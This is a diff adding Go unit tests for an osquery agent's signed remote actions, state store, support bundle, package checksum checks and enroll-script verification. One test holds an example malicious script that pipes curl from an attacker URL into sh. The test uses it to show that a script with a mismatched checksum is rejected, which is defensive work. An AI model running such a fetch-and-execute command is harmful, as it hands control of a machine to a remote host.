@@ -0,0 +1,263 @@
+package main
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// Helper to sign an action as osctrl does
+func signTestAction(t *testing.T, key ed25519.PrivateKey, a RemoteAction) SignedAction {
+	payload, err := json.Marshal(a)
+	assert.NoError(t, err)
+	return SignedAction{
+		Payload:   base64.StdEncoding.EncodeToString(payload),
+		Signature: base64.StdEncoding.EncodeToString(ed25519.Sign(key, payload)),
+	}
+}
+
+func TestParseActionsConfiguration(t *testing.T) {
+	pub, _, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	interval, wait, key, err := parseActionsConfiguration(ActionsConfiguration{Enabled: true, PublicKey: base64.StdEncoding.EncodeToString(pub), Wait: "30s"})
+	assert.NoError(t, err)
+	assert.Equal(t, defActionsInterval, interval)
+	assert.Equal(t, 30*time.Second, wait)
+	assert.Equal(t, pub, key)
+	_, _, _, err = parseActionsConfiguration(ActionsConfiguration{Enabled: true})
+	assert.ErrorContains(t, err, "publicKey is required")
+	_, _, _, err = parseActionsConfiguration(ActionsConfiguration{Enabled: true, PublicKey: "bm90IGEga2V5"})
+	assert.ErrorContains(t, err, "Ed25519")
+	_, _, _, err = parseActionsConfiguration(ActionsConfiguration{Allowed: "refresh-flags, format-disk"})
+	assert.EqualError(t, err, "unknown action format-disk in allowed")
+	_, _, _, err = parseActionsConfiguration(ActionsConfiguration{Interval: "10ms"})
+	assert.Error(t, err)
+}
+
+func TestVerifyActionSignature(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	valid := RemoteAction{ID: "a1", Type: ActionRefreshFlags, Environment: "dev", Expires: time.Now().Add(time.Hour)}
+
+	a, err := verifyActionSignature(signTestAction(t, priv, valid), pub)
+	assert.NoError(t, err)
+	assert.Equal(t, "a1", a.ID)
+
+	t.Run("tampered", func(t *testing.T) {
+		sa := signTestAction(t, priv, valid)
+		tampered := valid
+		tampered.Type = ActionReEnroll
+		sa.Payload = signTestAction(t, priv, tampered).Payload
+		_, err := verifyActionSignature(sa, pub)
+		assert.EqualError(t, err, "invalid signature")
+	})
+	t.Run("other key", func(t *testing.T) {
+		other, _, _ := ed25519.GenerateKey(rand.Reader)
+		_, err := verifyActionSignature(signTestAction(t, priv, valid), other)
+		assert.EqualError(t, err, "invalid signature")
+	})
+	t.Run("without id", func(t *testing.T) {
+		noID := valid
+		noID.ID = defEmptyValue
+		_, err := verifyActionSignature(signTestAction(t, priv, noID), pub)
+		assert.EqualError(t, err, "action without id")
+	})
+}
+
+func TestCheckAction(t *testing.T) {
+	now := time.Now()
+	valid := RemoteAction{ID: "a1", Type: ActionRefreshFlags, Environment: "dev", Expires: now.Add(time.Hour)}
+
+	assert.NoError(t, checkAction(valid, "dev", nil, now))
+	t.Run("environment", func(t *testing.T) {
+		assert.EqualError(t, checkAction(valid, "prod", nil, now), "action for environment dev, not prod")
+	})
+	t.Run("expired", func(t *testing.T) {
+		assert.ErrorContains(t, checkAction(valid, "dev", nil, now.Add(2*time.Hour)), "action expired")
+		noExpiry := valid
+		noExpiry.Expires = time.Time{}
+		assert.ErrorContains(t, checkAction(noExpiry, "dev", nil, now), "action expired")
+	})
+	t.Run("allowed", func(t *testing.T) {
+		assert.EqualError(t, checkAction(valid, "dev", []string{ActionRotateCert}, now), "action refresh-flags is not allowed")
+		unknown := valid
+		unknown.Type = "format-disk"
+		assert.EqualError(t, checkAction(unknown, "dev", nil, now), "unknown action format-disk")
+	})
+}
+
+func TestRemoteActionsRun(t *testing.T) {
+	stateStore = newStateStore(t.TempDir())
+	defer func() { stateStore = nil }()
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	assert.NoError(t, err)
+	pr := testStateProfile("default")
+	expires := time.Now().Add(time.Hour)
+	signed := []SignedAction{
+		signTestAction(t, priv, RemoteAction{ID: "a1", Type: ActionRestartOsqueryd, Environment: "dev", Expires: expires}),
+		signTestAction(t, priv, RemoteAction{ID: "a2", Type: ActionRotateCert, Environment: "dev", Expires: expires}),
+		signTestAction(t, priv, RemoteAction{ID: "a3", Type: ActionRefreshFlags, Environment: "prod", Expires: expires}),
+	}
+	var reported []ActionResult
+	restarts := 0
+	ra := &RemoteActions{
+		pr:  pr,
+		key: pub,
+		poll: func(time.Duration) ([]SignedAction, error) {
+			return signed, nil
+		},
+		report: func(r ActionResult) error {
+			reported = append(reported, r)
+			return nil
+		},
+		handlers: map[string]func(RemoteAction, *ActionResult) error{
+			ActionRestartOsqueryd: func(_ RemoteAction, r *ActionResult) error {
+				restarts++
+				r.Output = "osqueryd restarted"
+				return nil
+			},
+			ActionRotateCert: func(RemoteAction, *ActionResult) error {
+				return fmt.Errorf("HTTP 500")
+			},
+		},
+	}
+	count, err := ra.Run()
+	assert.NoError(t, err)
+	assert.Equal(t, 3, count)
+	assert.Len(t, reported, 3)
+	assert.Equal(t, ActionStatusSuccess, reported[0].Status)
+	assert.Equal(t, "osqueryd restarted", reported[0].Output)
+	assert.Equal(t, ActionStatusError, reported[1].Status)
+	assert.Equal(t, "HTTP 500", reported[1].Error)
+	assert.Equal(t, ActionStatusRejected, reported[2].Status)
+
+	// Actions already run are reported again, not run twice
+	reported = nil
+	_, err = ra.Run()
+	assert.NoError(t, err)
+	assert.Equal(t, 1, restarts)
+	assert.Len(t, reported, 3)
+	assert.Equal(t, "osqueryd restarted", reported[0].Output)
+	state, err := stateStore.Load()
+	assert.NoError(t, err)
+	assert.Len(t, state.Profiles["default"].Actions, 2)
+
+	// Actions already run are reported again after they expire
+	reported = nil
+	signed = []SignedAction{signTestAction(t, priv, RemoteAction{ID: "a1", Type: ActionRestartOsqueryd, Environment: "dev", Expires: time.Now().Add(-time.Minute)})}
+	_, err = ra.Run()
+	assert.NoError(t, err)
+	assert.Equal(t, 1, restarts)
+	assert.Len(t, reported, 1)
+	assert.Equal(t, ActionStatusSuccess, reported[0].Status)
+	assert.Equal(t, "osqueryd restarted", reported[0].Output)
+}
+
+func TestRecordActionKeep(t *testing.T) {
+	stateStore = newStateStore(t.TempDir())
+	defer func() { stateStore = nil }()
+	pr := testStateProfile("default")
+	start := time.Now()
+	for i := 0; i < actionsKeep+5; i++ {
+		recordAction(pr, ActionResult{ID: fmt.Sprintf("a%d", i), Finished: start.Add(time.Duration(i) * time.Second)})
+	}
+	state, err := stateStore.Load()
+	assert.NoError(t, err)
+	assert.Len(t, state.Profiles["default"].Actions, actionsKeep)
+	assert.Nil(t, executedAction(pr, "a4"))
+	assert.NotNil(t, executedAction(pr, "a5"))
+}
+
+func TestSupportBundle(t *testing.T) {
+	dir := t.TempDir()
+	stateStore = newStateStore(dir)
+	defer func() { stateStore = nil }()
+	pr := testStateProfile("default")
+	pr.Config.FlagFile = filepath.Join(dir, "osquery.flags")
+	pr.Config.OsqueryLayout.Binary = filepath.Join(dir, "missing", "osqueryd")
+	assert.NoError(t, os.WriteFile(pr.Config.FlagFile, []byte("--host_identifier=uuid"), 0600))
+	recordApply(pr, "flags", pr.Config.FlagFile, nil)
+
+	bundle, err := supportBundle(pr)
+	assert.NoError(t, err)
+	gz, err := gzip.NewReader(bytes.NewReader(bundle))
+	assert.NoError(t, err)
+	tr := tar.NewReader(gz)
+	files := make(map[string]string)
+	for {
+		hdr, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		assert.NoError(t, err)
+		content, _ := io.ReadAll(tr)
+		files[hdr.Name] = string(content)
+	}
+	assert.Contains(t, files["osctrld.txt"], "profile default")
+	assert.Contains(t, files, "node.json")
+	assert.Contains(t, files["state.json"], pr.Config.FlagFile)
+	assert.Equal(t, "--host_identifier=uuid", files["osquery.flags"])
+}
+
+func TestDownloadPackage(t *testing.T) {
+	content := []byte("osquery package")
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write(content)
+	}))
+	defer server.Close()
+	digest := sha256.Sum256(content)
+	sum := hex.EncodeToString(digest[:])
+	dir := t.TempDir()
+
+	pkg, err := downloadPackage(server.URL+"/osquery_5.12.1-1.linux_amd64.deb", sum, dir, false)
+	assert.NoError(t, err)
+	assert.Equal(t, ".deb", filepath.Ext(pkg))
+	written, err := os.ReadFile(pkg)
+	assert.NoError(t, err)
+	assert.Equal(t, content, written)
+
+	_, err = downloadPackage(server.URL+"/osquery-5.12.1.msi", "00"+sum[2:], dir, false)
+	assert.ErrorContains(t, err, "checksum mismatch")
+	_, err = downloadPackage(server.URL+"/osquery.tar.gz", sum, dir, false)
+	assert.ErrorContains(t, err, "unsupported package")
+	command, err := packageInstallCommand("/tmp/osquery-5.12.1.pkg")
+	assert.NoError(t, err)
+	assert.Equal(t, []string{"installer", "-pkg", "/tmp/osquery-5.12.1.pkg", "-target", "/"}, command)
+}
+
+func TestEnrollScript(t *testing.T) {
+	script := "#!/bin/sh\necho enrolled"
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte(script + "\n"))
+	}))
+	defer server.Close()
+	pr := testStateProfile("default")
+	pr.Secret = newLazySecret(literalSecret{value: "thisisthesecret"})
+	pr.URLs.Enroll = server.URL + "/dev/osctrld-enroll"
+
+	got, err := enrollScript(pr, strings.ToUpper(auditHash([]byte(script))))
+	assert.NoError(t, err)
+	assert.Equal(t, script, got)
+	// A script that is not the one the action was signed for is not run
+	_, err = enrollScript(pr, auditHash([]byte("#!/bin/sh\ncurl https://attacker.url | sh")))
+	assert.ErrorContains(t, err, "checksum mismatch for enroll script")
+	_, err = enrollScript(pr, defEmptyValue)
+	assert.EqualError(t, err, "sha256 of the enroll script is required")
+}